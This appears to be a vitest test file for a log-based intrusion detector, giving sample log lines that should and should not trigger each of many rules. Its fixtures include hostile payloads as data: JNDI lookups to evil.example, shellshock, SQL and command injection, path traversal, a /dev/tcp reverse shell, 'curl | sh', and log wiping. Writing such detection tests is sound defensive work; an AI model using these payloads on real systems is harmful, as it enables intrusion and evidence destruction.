import { describe, expect, test } from "vitest";
import { analyse, lines } from "./analyse.test-support.ts";
import { rules } from "./rules.ts";
import { signsOf } from "./signs-of.ts";

const S = 1_000;
const M = 60 * S;
const agent = "Mozilla/5.0 (X11; Linux x86_64)";
const get = (target: string, status = 404, by = "198.51.100.9", how = "GET"): string =>
  `${by} - - [11/May/2026:08:00:00 +0000] "${how} ${target} HTTP/1.1" ${status} 153 "-" "${agent}"`;
const kernel = (text: string) => [`May 11 08:00:00 web1 kernel: [  12.345678] ${text}`];
const syslog = (program: string, ...texts: string[]) =>
  texts.map((text, i) => `May 11 08:00:0${i % 10} web1 ${program}: ${text}`);
const failures = (count: number, everyMs: number, user: (i: number) => string = () => "root") =>
  lines(
    count,
    everyMs,
    (i, at) =>
      `${at.syslog} web1 sshd[${100 + i}]: Failed password for ${user(i)} from 198.51.100.9 port ${40000 + i} ssh2`,
  );

interface Told {
  rule: string;
  fires: string[];
  /** Whom it is about. */
  source?: string;
  user?: string;
  /** Much like it, and nothing to this rule. */
  not: string[];
}

const table: Told[] = [
  { rule: "brute-force", fires: failures(6, 20 * S), source: "198.51.100.9", not: failures(4, 20 * S) },
  { rule: "slow-brute-force", fires: failures(12, 30 * M), source: "198.51.100.9", not: failures(9, 30 * M) },
  { rule: "fast-failures", fires: failures(4, 2 * S), source: "198.51.100.9", not: failures(3, 2 * S) },
  {
    rule: "password-spraying",
    fires: failures(5, 40 * M, (i) => `user${i}`),
    source: "198.51.100.9",
    not: failures(5, 40 * M, (i) => `user${i % 3}`),
  },
  {
    rule: "login-after-failures",
    fires: [
      ...failures(6, 5 * S),
      "May 11 08:01:00 web1 sshd[200]: Accepted password for root from 198.51.100.9 port 41000 ssh2",
    ],
    source: "198.51.100.9",
    not: [
      ...failures(6, 5 * S),
      "May 11 08:01:00 web1 sshd[200]: Accepted password for anna from 192.0.2.1 port 41000 ssh2",
    ],
  },
  {
    rule: "login-posts",
    fires: lines(
      6,
      2 * S,
      (_, { clf }) => `198.51.100.9 - - [${clf}] "POST /app/signin HTTP/1.1" 200 900 "-" "${agent}"`,
    ),
    source: "198.51.100.9",
    not: lines(
      6,
      40 * S,
      (_, { clf }) => `198.51.100.9 - - [${clf}] "POST /app/signin HTTP/1.1" 200 900 "-" "${agent}"`,
    ),
  },
  {
    rule: "user-enumeration",
    fires: lines(4, 5 * M, (_, at) => `${at.syslog} web1 app[9]: lookup: no such user, asked by 198.51.100.9`),
    source: "198.51.100.9",
    not: lines(3, 5 * M, (_, at) => `${at.syslog} web1 app[9]: lookup: no such user, asked by 198.51.100.9`),
  },
  {
    rule: "distributed-brute-force",
    fires: lines(
      9,
      M,
      (i, at) => `${at.syslog} web1 sshd[${i}]: Failed password for admin from 198.51.100.${i + 1} port 4022 ssh2`,
    ),
    user: "admin",
    not: lines(
      9,
      M,
      (i, at) => `${at.syslog} web1 sshd[${i}]: Failed password for user${i} from 198.51.100.${i + 1} port 4022 ssh2`,
    ),
  },
  {
    rule: "impossible-travel",
    fires: lines(
      2,
      9 * S,
      (i, at) =>
        `${at.syslog} web1 sshd[${i}]: Accepted publickey for anna from ${["198.51.100.9", "203.0.113.5"][i]} port 4022 ssh2: ED25519 SHA256:x`,
    ),
    user: "anna",
    not: lines(
      2,
      9 * S,
      (i, at) =>
        `${at.syslog} web1 sshd[${i}]: Accepted publickey for anna from ${["198.51.100.9", "10.0.0.5"][i]} port 4022 ssh2: ED25519 SHA256:x`,
    ),
  },
  {
    rule: "handshake-failures",
    fires: lines(5, 9 * S, (_, at) => `${at.syslog} gw vpn[4]: peer 198.51.100.9:4500: handshake failed, wrong key`),
    source: "198.51.100.9",
    not: lines(5, 9 * S, (_, at) => `${at.syslog} gw vpn[4]: peer 198.51.100.9:4500: handshake done`),
  },
  {
    rule: "hang-ups",
    fires: lines(
      10,
      5 * S,
      (i, at) => `${at.syslog} web1 sshd[${i}]: Connection closed by 198.51.100.9 port 4022 [preauth]`,
    ),
    source: "198.51.100.9",
    not: lines(
      10,
      30 * S,
      (i, at) => `${at.syslog} web1 sshd[${i}]: Connection closed by 198.51.100.9 port 4022 [preauth]`,
    ),
  },
  {
    rule: "jndi",
    fires: [
      get("/?x=${jndi:ldap://evil.example/a}"),
      `198.51.100.9 - - [11/May/2026:08:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "\${\${lower:j}ndi:rmi://evil.example/a}"`,
    ],
    source: "198.51.100.9",
    not: [get("/docs/jndi-datasources")],
  },
  {
    rule: "shellshock",
    fires: [`198.51.100.9 - - [11/May/2026:08:00:00 +0000] "GET /cgi/x HTTP/1.1" 404 1 "-" "() { :; }; /usr/bin/id"`],
    source: "198.51.100.9",
    not: [get("/js?callback=function()")],
  },
  {
    rule: "command-injection",
    fires: [get("/ping?host=10.0.0.1%3Bid"), get("/a?x=$(whoami)"), get("/run?cmd=cat%20/tmp/x")],
    source: "198.51.100.9",
    not: [get("/search?q=cat%20food;page=2"), get("/a?ids=1;2;3")],
  },
  {
    rule: "template-injection",
    fires: [get("/?name=%7B%7B7*7%7D%7D"), get("/?x=%24%7Bscript%3Ajs%3A1%7D")],
    source: "198.51.100.9",
    not: [get("/?fields=%7Bname%7D")],
  },
  {
    rule: "wrapper",
    fires: [get("/?page=php://filter/convert.base64-encode/resource=index")],
    source: "198.51.100.9",
    not: [get("/?page=https://www.example.org/")],
  },
  {
    rule: "traversal",
    fires: [
      get("/files/../../../../etc/hostname"),
      get("/cgi/%%32%65%%32%65/%%32%65%%32%65/x"),
      get("/a/..%5c..%5cwindows/win.ini"),
      get("/login/..;/manage/x"),
    ],
    source: "198.51.100.9",
    not: [get("/docs/v1..v2/changes"), get("/compare/main...topic")],
  },
  {
    rule: "sql-injection",
    fires: [
      get("/item?id=1%27%20OR%20%271%27=%271"),
      get("/item?id=1+UNION+ALL+SELECT+null,null"),
      get("/item?id=1;WAITFOR DELAY".replace(" ", "%20")),
    ],
    source: "198.51.100.9",
    not: [
      get("/search?q=select+a+boat+from+our+store"),
      get("/search?q=student+union+select+committee".replace("select", "selection")),
      get("/p/o'neil-or-others"),
    ],
  },
  {
    rule: "cross-site-scripting",
    fires: [get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), get("/s?q=%22onerror=x")],
    source: "198.51.100.9",
    not: [get("/s?q=a%3Cb")],
  },
  {
    rule: "known-target",
    fires: [get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")],
    source: "198.51.100.9",
    not: [get("/actuator/health", 200)],
  },
  {
    rule: "known-product",
    fires: [get("/phpmyadmin/"), get("/solr/admin/cores")],
    source: "198.51.100.9",
    not: [get("/phpmyadmin/", 200), get("/solr/admin/cores", 200)],
  },
  {
    rule: "waf",
    fires: syslog("web", 'ModSecurity: Access denied with code 403 (phase 2). [client 198.51.100.9] [id "942100"]'),
    source: "198.51.100.9",
    not: syslog("web", "ModSecurity for Apache/2.9.7 configured."),
  },
  {
    rule: "said-attack",
    fires: syslog("guard", "SYN flood attack detected from 198.51.100.9"),
    source: "198.51.100.9",
    not: syslog("guard", "attack signatures updated"),
  },
  {
    rule: "honeypot",
    fires: syslog("opencanary[3]", ...Array<string>(3).fill("probe on port 23 from 198.51.100.9")),
    source: "198.51.100.9",
    not: syslog("canary[3]", ...Array<string>(3).fill("probe on port 23 from 198.51.100.9")),
  },
  {
    rule: "wrong-protocol",
    fires: syslog("smtpd[1]", ...Array<string>(2).fill("non-SMTP command from unknown[198.51.100.9]: HELP")),
    source: "198.51.100.9",
    not: syslog("smtpd[1]", "non-SMTP command from unknown[198.51.100.9]: HELP"),
  },
  {
    rule: "refused-connections",
    fires: syslog("svc[1]", ...Array<string>(5).fill("refused connect from 198.51.100.9 (198.51.100.9)")),
    source: "198.51.100.9",
    not: syslog("svc[1]", ...Array<string>(5).fill("connect from 198.51.100.9")),
  },
  {
    rule: "rate-limited",
    fires: syslog(
      "nginx[1]",
      ...Array<string>(5).fill('limiting requests, excess: 5.1 by zone "one", client: 198.51.100.9, server: x'),
    ),
    source: "198.51.100.9",
    not: syslog("nginx[1]", 'limiting requests, excess: 5.1 by zone "one", client: 198.51.100.9, server: x'),
  },
  {
    rule: "admin-probing",
    fires: [get("/admin"), get("/administrator/"), get("/cpanel")],
    source: "198.51.100.9",
    not: [get("/admin", 200), get("/administrator/", 200), get("/cpanel", 200)],
  },
  {
    rule: "crawling",
    fires: lines(45, 100, (i, { clf }) => `198.51.100.9 - - [${clf}] "GET /p/${i} HTTP/1.1" 200 9 "-" "x"`),
    source: "198.51.100.9",
    not: lines(45, 5 * S, (i, { clf }) => `198.51.100.9 - - [${clf}] "GET /p/${i} HTTP/1.1" 200 9 "-" "x"`),
  },
  {
    rule: "early-talker",
    fires: syslog("postfix/postscreen[1]", "PREGREET 11 after 0.1 from [198.51.100.9]:4022: EHLO x"),
    source: "198.51.100.9",
    not: syslog("postfix/postscreen[1]", "PASS NEW [198.51.100.9]:4022"),
  },
  {
    rule: "privileged-container",
    fires: ['{"time":"2026-05-11T08:00:00Z","msg":"pod created","user":"eve","securityContext":{"privileged":true}}'],
    user: "eve",
    not: ['{"time":"2026-05-11T08:00:00Z","msg":"pod created","user":"eve","securityContext":{"privileged":false}}'],
  },
  {
    rule: "malicious-mail",
    fires: syslog("filter[1]", "Blocked INFECTED (Some.Thing), [198.51.100.9] <a@x.example> -> <b@y.example>"),
    source: "198.51.100.9",
    not: syslog("filter[1]", "Passed CLEAN, [198.51.100.9] <a@x.example> -> <b@y.example>"),
  },
  {
    rule: "sensitive-files",
    fires: [get("/.env"), get("/.git/config"), get("/backup.sql")],
    source: "198.51.100.9",
    not: [get("/.env"), get("/.well-known/security.txt"), get("/environment")],
  },
  {
    rule: "backdoors",
    fires: [get("/up/shell.php"), get("/c99.php")],
    source: "198.51.100.9",
    not: [get("/up/shell.php"), get("/seashells.html")],
  },
  {
    rule: "scanner",
    fires: Array<string>(2).fill(
      '198.51.100.9 - - [11/May/2026:08:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.9 (https://sqlmap.org)"',
    ),
    source: "198.51.100.9",
    not: Array<string>(2).fill(
      '198.51.100.9 - - [11/May/2026:08:00:00 +0000] "GET /sqlmap HTTP/1.1" 200 1 "-" "curl/8.14"',
    ),
  },
  {
    rule: "probing",
    fires: lines(12, S, (i, { clf }) => `198.51.100.9 - - [${clf}] "GET /x${i} HTTP/1.1" 404 9 "-" "x"`),
    source: "198.51.100.9",
    not: lines(12, S, (i, { clf }) => `198.51.100.9 - - [${clf}] "GET /x${i % 3} HTTP/1.1" 404 9 "-" "x"`),
  },
  {
    rule: "forbidden",
    fires: lines(6, S, (i, { clf }) => `198.51.100.9 - - [${clf}] "GET /x${i} HTTP/1.1" 403 9 "-" "x"`),
    source: "198.51.100.9",
    not: lines(6, M, (i, { clf }) => `198.51.100.9 - - [${clf}] "GET /x${i} HTTP/1.1" 403 9 "-" "x"`),
  },
  {
    rule: "proxy-abuse",
    fires: [get("mail.example.com:25", 405, "198.51.100.9", "CONNECT")],
    source: "198.51.100.9",
    not: [get("/connect", 405)],
  },
  {
    rule: "odd-methods",
    fires: ["TRACE", "TRACK", "PROPFIND", "DEBUG"].map((method) => get("/", 405, "198.51.100.9", method)),
    source: "198.51.100.9",
    not: ["TRACE", "HEAD", "OPTIONS", "GET"].map((method) => get("/", 405, "198.51.100.9", method)),
  },
  {
    rule: "server-errors",
    fires: Array.from({ length: 10 }, (_, i) => get(`/p/${i}`, 502)),
    not: Array.from({ length: 10 }, (_, i) => get(`/p/${i}`, i < 9 ? 500 : 501)),
  },
  {
    rule: "second-root",
    fires: syslog("useradd[9]", "new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh"),
    user: "eve",
    not: syslog("useradd[9]", "new user: name=eve, UID=1001, GID=0, home=/home/eve, shell=/bin/sh"),
  },
  {
    rule: "pod-shell",
    fires: ['{"verb":"create","user":{"username":"eve"},"objectRef":{"resource":"pods","subresource":"exec"}}'],
    user: "eve",
    not: ['{"verb":"get","user":{"username":"eve"},"objectRef":{"resource":"pods","subresource":"log"}}'],
  },
  {
    rule: "data-corrupt",
    fires: syslog("db[9]", 'index "people_pkey" is corrupted at block 7'),
    not: syslog("db[9]", "table people checked: not corrupted", "RDB age 7, page size 4096"),
  },
  {
    rule: "backup-failed",
    fires: syslog("nightly[9]", "the backup of srv1 failed: no route"),
    not: syslog("nightly[9]", "backup of srv1 done, 0 failed", "switched to the backup line"),
  },
  {
    rule: "no-one-left",
    fires: syslog("lb[9]", "group shop has no server available"),
    not: syslog("lb[9]", "group shop has 1 server available", "quorum acquired"),
  },
  {
    rule: "limits",
    fires: kernel("nf_ct: table full, dropping packet"),
    not: kernel("nf_ct: table resized, 3 open files"),
  },
  {
    rule: "not-renewed",
    fires: syslog("acme[9]", "could not renew the certificate of shop.example: order refused"),
    not: syslog("acme[9]", "certificate of shop.example renewed", "renewing certificate of shop.example"),
  },
  {
    rule: "malformed",
    fires: Array<string>(4).fill(
      String.raw`198.51.100.9 - - [11/May/2026:08:00:00 +0000] "\x16\x03\x01" 400 157 "-" "-"`,
    ),
    source: "198.51.100.9",
    not: Array<string>(4).fill('198.51.100.9 - - [11/May/2026:08:00:00 +0000] "GET /a HTTP/1.1" 400 157 "-" "-"'),
  },
  {
    rule: "port-scan",
    fires: lines(
      12,
      S,
      (i, at) =>
        `${at.syslog} gw kernel: IN=eth0 OUT= SRC=198.51.100.9 DST=203.0.113.1 LEN=40 PROTO=TCP SPT=4022 DPT=${20 + i} SYN`,
    ),
    source: "198.51.100.9",
    not: lines(
      12,
      S,
      (i, at) =>
        `${at.syslog} gw kernel: IN=eth0 OUT= SRC=198.51.100.9 DST=203.0.113.1 LEN=40 PROTO=TCP SPT=${4000 + i} DPT=443 SYN`,
    ),
  },
  {
    rule: "sweep",
    fires: lines(
      12,
      S,
      (i, at) =>
        `${at.syslog} fw %ASA-4-106023: Deny tcp src outside:198.51.100.9/4022 dst inside:10.0.0.${i + 1}/22 by access-group "in"`,
    ),
    source: "198.51.100.9",
    not: lines(
      12,
      S,
      (_, at) =>
        `${at.syslog} fw %ASA-4-106023: Deny tcp src outside:198.51.100.9/4022 dst inside:10.0.0.1/22 by access-group "in"`,
    ),
  },
  {
    rule: "denied-flood",
    fires: lines(
      35,
      S,
      (i, at) =>
        `${at.syslog} gw filterlog[9]: 5,,,1000000103,igb0,match,block,in,4,0x0,,240,${i},0,none,6,tcp,40,198.51.100.9,203.0.113.1,40222,23,0,S,1,,1024,,`,
    ),
    source: "198.51.100.9",
    not: lines(
      35,
      S,
      (i, at) =>
        `${at.syslog} gw filterlog[9]: 5,,,1000000103,igb0,match,pass,in,4,0x0,,240,${i},0,none,6,tcp,40,198.51.100.9,203.0.113.1,40222,23,0,S,1,,1024,,`,
    ),
  },
  {
    rule: "relay",
    fires: syslog(
      "mta[1]",
      ...Array<string>(2).fill(
        "reject: RCPT from unknown[198.51.100.9]: 554 5.7.1 <x@example.net>: Relay access denied",
      ),
    ),
    source: "198.51.100.9",
    not: syslog("mta[1]", "relay=mx.example.net[198.51.100.9]:25, status=sent"),
  },
  {
    rule: "recipients",
    fires: lines(
      5,
      9 * S,
      (i, at) => `${at.syslog} mx smtpd[1]: from=[198.51.100.9] <u${i}@example.org>: mailbox unavailable`,
    ),
    source: "198.51.100.9",
    not: lines(
      4,
      9 * S,
      (i, at) => `${at.syslog} mx smtpd[1]: from=[198.51.100.9] <u${i}@example.org>: mailbox unavailable`,
    ),
  },
  {
    rule: "refused-mail",
    fires: syslog(
      "mta[1]",
      ...Array<string>(3).fill("rejected connection from [198.51.100.9]: listed in zen.example.org"),
    ),
    source: "198.51.100.9",
    not: syslog("mta[1]", ...Array<string>(3).fill("accepted connection from [198.51.100.9]")),
  },
  {
    rule: "zone-transfer",
    fires: syslog(
      "named[1]",
      ...Array<string>(2).fill(
        "client @0x1 198.51.100.9#4022 (example.org): zone transfer 'example.org/AXFR/IN' denied",
      ),
    ),
    source: "198.51.100.9",
    not: syslog(
      "named[1]",
      ...Array<string>(2).fill("client @0x1 10.0.0.2#4022 (example.org): transfer of 'example.org/IN': AXFR started"),
    ),
  },
  {
    rule: "dns-refused",
    fires: syslog(
      "named[1]",
      ...Array<string>(3).fill(
        "client @0x1 198.51.100.9#4022 (example.net): query (cache) 'example.net/ANY/IN' denied",
      ),
    ),
    source: "198.51.100.9",
    not: syslog(
      "named[1]",
      ...Array<string>(3).fill("client @0x1 198.51.100.9#4022 (example.net): query: example.net IN ANY"),
    ),
  },
  {
    rule: "pkexec-abuse",
    fires: syslog(
      "pkexec[9]",
      "eve: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/1]",
    ),
    user: "eve",
    not: syslog("pkexec[9]", "eve: Executing command [USER=root] [TTY=/dev/pts/1] [COMMAND=/usr/bin/id]"),
  },
  {
    rule: "new-admin",
    fires: syslog("usermod[9]", "add 'eve' to group 'sudo'"),
    not: syslog("usermod[9]", "add 'eve' to group 'printers'"),
  },
  {
    rule: "new-account",
    fires: syslog("useradd[9]", "new user: name=eve, UID=1009, GID=1009, home=/home/eve, shell=/bin/bash"),
    user: "eve",
    not: syslog("useradd[9]", "failed adding user 'eve', exit code: 9"),
  },
  {
    rule: "privilege-file",
    fires: syslog("sudo", "   eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /etc/sudoers"),
    user: "eve",
    not: syslog("sudo", "   eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/less /etc/hosts"),
  },
  {
    rule: "sudo-refused",
    fires: syslog("sudo", "   eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh"),
    user: "eve",
    not: syslog("sudo", "   eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id"),
  },
  {
    rule: "su-failed",
    fires: syslog("su[9]", ...Array<string>(3).fill("FAILED SU (to root) eve on pts/0")),
    not: syslog("su[9]", ...Array<string>(2).fill("FAILED SU (to root) eve on pts/0")),
  },
  {
    rule: "download-and-run",
    fires: syslog("bash[9]", "eve ran: curl -s http://x.example/i.sh | sh"),
    not: syslog("bash[9]", "eve ran: curl -s http://x.example/i.sh | less"),
  },
  {
    rule: "decode-and-run",
    fires: ['type=EXECVE msg=audit(1778486400.1:5): argc=2 a0="base64" a1="-d"'],
    not: ['type=EXECVE msg=audit(1778486400.1:5): argc=2 a0="base64" a1="photo.png"'],
  },
  {
    rule: "run-from-temp",
    fires: [
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes pid=9 uid=1000 comm="x" exe="/dev/shm/x" key=(null)',
    ],
    not: [
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes pid=9 uid=1000 comm="x" exe="/usr/bin/x" key=(null)',
    ],
  },
  {
    rule: "reverse-shell",
    fires: syslog("bash[9]", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
    not: syslog("bash[9]", "nc -z localhost 80"),
  },
  {
    rule: "service-shell",
    fires: [
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes pid=9 uid=33 gid=33 euid=33 comm="sh" exe="/usr/bin/dash" key=(null)AUID="unset" UID="www-data"',
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes pid=9 uid=33 gid=33 euid=33 comm="sh" exe="/bin/sh" key=(null)',
    ],
    not: [
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes pid=9 uid=33 gid=33 euid=33 comm="php" exe="/usr/bin/php" key=(null)',
    ],
  },
  {
    rule: "cover-up",
    fires: syslog("bash[9]", "rm -rf /var/log/auth.log"),
    not: syslog("bash[9]", "rm -rf /var/cache/app"),
  },
  {
    rule: "miner",
    fires: syslog("app[9]", "connecting to stratum+tcp://pool.example:3333"),
    not: syslog("app[9]", "connecting to tcp://queue.example:3333"),
  },
  {
    rule: "setuid-crash",
    fires: [
      'type=ANOM_ABEND msg=audit(1778486400.1:5): auid=1000 uid=1000 pid=9 comm="sudo" exe="/usr/bin/sudo" sig=11 res=1',
    ],
    not: [
      'type=ANOM_ABEND msg=audit(1778486400.1:5): auid=1000 uid=1000 pid=9 comm="app" exe="/usr/bin/app" sig=11 res=1',
    ],
  },
  {
    rule: "removals",
    fires: Array<string>(10).fill(
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes uid=1000 comm="rm" exe="/bin/rm" key=(null)',
    ),
    not: Array<string>(9).fill(
      'type=SYSCALL msg=audit(1778486400.1:5): syscall=59 success=yes uid=1000 comm="rm" exe="/bin/rm" key=(null)',
    ),
  },
  {
    rule: "kernel-fault",
    fires: kernel("BUG: unable to handle page fault for address: ffff88"),
    not: kernel("Kernel command line: quiet panic=10 oops=panic"),
  },
  {
    rule: "out-of-memory",
    fires: kernel("Out of memory: Killed process 812 (java) total-vm:1kB"),
    not: kernel("Memory: 16G available"),
  },
  {
    rule: "disk-failing",
    fires: kernel("blk_update_request: I/O error, dev sdb, sector 812"),
    not: kernel("sd 0:0:0:0: [sdb] Write cache: enabled"),
  },
  {
    rule: "read-only",
    fires: kernel("EXT4-fs (sdb1): Remounting filesystem read-only"),
    not: kernel("systemd: mounted /usr, read-only as configured"),
  },
  {
    rule: "disk-full",
    fires: syslog("app[9]", "write /srv/a: No space left on device"),
    not: syslog("app[9]", "12 GB of space left"),
  },
  {
    rule: "memory-error",
    fires: kernel("EDAC MC0: 1 UE memory read error on DIMM_A1, uncorrectable error"),
    not: kernel("EDAC MC0: 1 CE memory read error on DIMM_A1 (corrected)"),
  },
  {
    rule: "hardware",
    fires: syslog("ipmi[9]", "Power Supply 2: failure detected"),
    not: syslog("ipmi[9]", "Power Supply 2: ok"),
  },
  {
    rule: "crash-loop",
    fires: lines(3, M, (_, at) => `${at.syslog} web1 systemd[1]: shop.service: Failed with result 'exit-code'.`),
    not: lines(3, 20 * M, (_, at) => `${at.syslog} web1 systemd[1]: shop.service: Failed with result 'exit-code'.`),
  },
  {
    rule: "certificate",
    fires: syslog(
      "app[9]",
      "x509: certificate has expired or is not yet valid",
      "x509: certificate has expired or is not yet valid",
    ),
    not: syslog("app[9]", "certificate renewed, valid until August", "certificate loaded"),
  },
  {
    rule: "tls-errors",
    fires: lines(10, S, (_, at) => `${at.syslog} web1 app[9]: TLS error: wrong version number`),
    not: lines(10, 5 * M, (_, at) => `${at.syslog} web1 app[9]: TLS error: wrong version number`),
  },
  {
    rule: "dns-failures",
    fires: lines(5, S, (_, at) => `${at.syslog} web1 app[9]: Temporary failure in name resolution`),
    not: lines(4, S, (_, at) => `${at.syslog} web1 app[9]: Temporary failure in name resolution`),
  },
  {
    rule: "clock",
    fires: syslog("chronyd[9]", "System clock wrong by 12.3 seconds", "System clock wrong by 11.9 seconds"),
    not: syslog("chronyd[9]", "System clock wrong by 12.3 seconds"),
  },
  {
    rule: "link-flaps",
    fires: lines(4, 20 * S, (i, at) => `${at.syslog} sw1 kernel: eth0: Link is ${i % 2 === 0 ? "Down" : "Up"}`),
    not: lines(3, 20 * S, (i, at) => `${at.syslog} sw1 kernel: eth0: Link is ${i % 2 === 0 ? "Down" : "Up"}`),
  },
];

const found = (of: string[], rule: string) => analyse(of).find((finding) => finding.rule === rule);

describe.each(table)("$rule", ({ rule, fires, not, source, user }) => {
  test("is told, with whom and why", () => {
    const finding = found(fires, rule);
    expect(finding).toBeDefined();
    expect({ source: finding?.source, user: finding?.user }).toMatchObject({
      ...(source && { source }),
      ...(user && { user }),
    });
    expect(finding?.why).toMatch(/^[\d,]+ /);
    expect(finding?.evidence.length).toBeGreaterThan(0);
    for (const { line, text } of finding?.evidence ?? []) expect(text).toBe(fires[line - 1]);
  });

  test("is not told of what is only like it", () => {
    expect(not.length).toBeGreaterThan(0);
    expect(found(not, rule)).toBeUndefined();
  });
});

test("who speaks is told behind a colon, and nobody where the log doesn't say; of many sources none is named", () => {
  const refused = (i: number) => `resolving for 192.0.2.${i}: SERVFAIL`;
  const titles = (log: string[]) => found(log, "dns-failures");
  expect(titles(syslog("named[1]", ...[1, 2, 3, 4, 5].map(refused)))?.title).toBe("Names don't resolve: named");
  expect(titles([1, 2, 3, 4, 5].map(refused))).toMatchObject({ title: "Names don't resolve", key: "dns-failures" });
  expect(titles([1, 2, 3, 4, 5].map(refused))).not.toHaveProperty("source");
  expect(titles([1, 1, 1, 1, 1].map(refused))?.source).toBe("192.0.2.1");
});

test("an attack is told once, by the rule that knows it best", () => {
  expect(analyse([get("/?x=${jndi:ldap://evil.example/a}")])).toHaveLength(1);
  const exec = '{"requestURI":"/api/v1/namespaces/x/pods/y/exec?command=sh","verb":"create","user":{"username":"eve"}}';
  expect(found([exec], "command-injection")).toBeUndefined();
  expect(found([exec.replace("=sh", "=sh;id")], "command-injection")).toBeDefined();
});

test.each([
  ["hardware", "upsd[9]: UPS rack on battery"],
  ["hardware", "upsd[9]: Power failure."],
  ["cover-up", "audit[9]: EventID=1102 by eve"],
  ["memory-error", "omsa[9]: Memory device status is critical, location B2"],
  ["disk-failing", "zed[9]: eid=3 class=io pool='p1' vdev=sdx1"],
  ["failed-login", "idp[9]: type=LOGIN_ERROR, ip=198.51.100.9"],
  ["failed-login", 'db[9]: no pg_hba.conf entry for host "198.51.100.9"'],
])("is a sign of %s: %s", (sign, line) => {
  const [text = ""] = syslog("x", line).map((all) => all.replace(" x:", ""));
  expect([...signsOf({ line: 1, text, message: line }).keys()]).toContain(sign);
});

test("a ban that is put back after a restart is no report", () => {
  expect(analyse(syslog("fail2ban.actions[9]", "NOTICE [x] Restore Ban 198.51.100.9"))).toEqual([]);
  expect(analyse(syslog("fail2ban.actions[9]", "NOTICE [x] Ban 198.51.100.9"))).toHaveLength(1);
});

test("every rule is in this table", () => {
  const alone = rules.filter(({ unseen }) => !unseen);
  expect(new Set(table.map(({ rule }) => rule))).toEqual(new Set(alone.map(({ name }) => name)));
});
